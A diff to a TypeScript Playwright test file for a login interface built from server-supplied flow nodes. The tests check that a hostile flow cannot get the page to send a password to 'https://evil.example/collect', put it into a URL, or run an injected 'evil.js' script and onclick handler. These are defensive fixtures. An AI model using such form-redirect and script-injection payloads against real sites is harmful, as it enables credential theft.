@@ -16,6 +16,8 @@ function input(name: string, type: string, more: object = {}, group = "default")
   };
 }
 
+type Node = { type: string; group: string; attributes: object; messages: object[]; meta: object };
+
 function hostileFlow(origin: string, kind: string) {
   return {
     id: "7b4a6c62-4b1c-4c0e-9a8e-0f6e6a1d9a11",
@@ -56,10 +58,18 @@ function hostileFlow(origin: string, kind: string) {
         { type: "script", group: "webauthn", attributes: { id: "other_script", node_type: "script", src: `${origin}/evil.js`, async: true, type: "text/javascript", integrity: "sha512-AAAA", crossorigin: "anonymous", referrerpolicy: "no-referrer", nonce: "" }, messages: [], meta: {} },
         { type: "div", group: "captcha", attributes: { id: "evil_div", node_type: "div", class: evil, data: { [evil]: evil, onclick: "window.pwned=8" } }, messages: [], meta: { label: text(1) } },
         { type: evil, group: evil, attributes: { node_type: evil, id: evil }, messages: [text(2)], meta: { label: text(3) } },
-      ],
+      ] as Node[],
     },
   };
 }
+
+/** The least that a person can sign in with. */
+const plain = [
+  input("csrf_token", "hidden"),
+  input("identifier", "text", { value: "" }),
+  input("password", "password", { value: "" }, "password"),
+  input("method", "submit", { value: "password" }, "password"),
+];
 
 async function serve(page: Page, origin: string, kind: string, change: (flow: ReturnType<typeof hostileFlow>) => void = () => {}) {
   const flow = hostileFlow(origin, kind);
@@ -105,10 +115,10 @@ for (const kind of ["login", "registration"]) {
 test("a flow that wants its form sent elsewhere is not obeyed", async ({ app, baseURL, page, watch }) => {
   await serve(page, baseURL!, "login", (flow) => {
     flow.ui.action = "https://evil.example/collect";
-    flow.ui.nodes = flow.ui.nodes.slice(0, 1).concat(flow.ui.nodes.slice(7, 9)) as typeof flow.ui.nodes;
+    flow.ui.nodes = plain;
   });
   await page.goto("/login");
-  await app.field("password").fill(watch.secret("CANARY-for-nobody"));
+  await app.fill({ identifier: "somebody@example.com", password: watch.secret("CANARY-for-nobody") });
   await page.route("**/self-service/login?**", (route) => route.fulfill({ status: 503, json: {} }));
   watch.allow(/status of 503/);
   await app.method("password").click();
@@ -120,14 +130,14 @@ test("a flow that wants its form sent elsewhere is not obeyed", async ({ app, ba
 test("a flow that wants to be sent by GET does not put the password into an address", async ({ app, baseURL, page, watch }) => {
   await serve(page, baseURL!, "login", (flow) => {
     flow.ui.method = "GET";
-    flow.ui.nodes = flow.ui.nodes.slice(0, 1).concat(flow.ui.nodes.slice(7, 9)) as typeof flow.ui.nodes;
+    flow.ui.nodes = plain;
   });
   await page.route("**/self-service/login?**", (route) => route.fulfill({ status: 503, json: {} }));
   watch.allow(/status of 503/);
   await page.goto("/login");
   const field = app.field("password");
   if (await field.isVisible({ timeout: 3_000 }).catch(() => false)) {
-    await field.fill(watch.secret("CANARY-for-nobody"));
+    await app.fill({ identifier: "somebody@example.com", password: watch.secret("CANARY-for-nobody") });
     await app.method("password").click();
   }
   expect(new URL(page.url()).searchParams.has("password")).toBe(false);
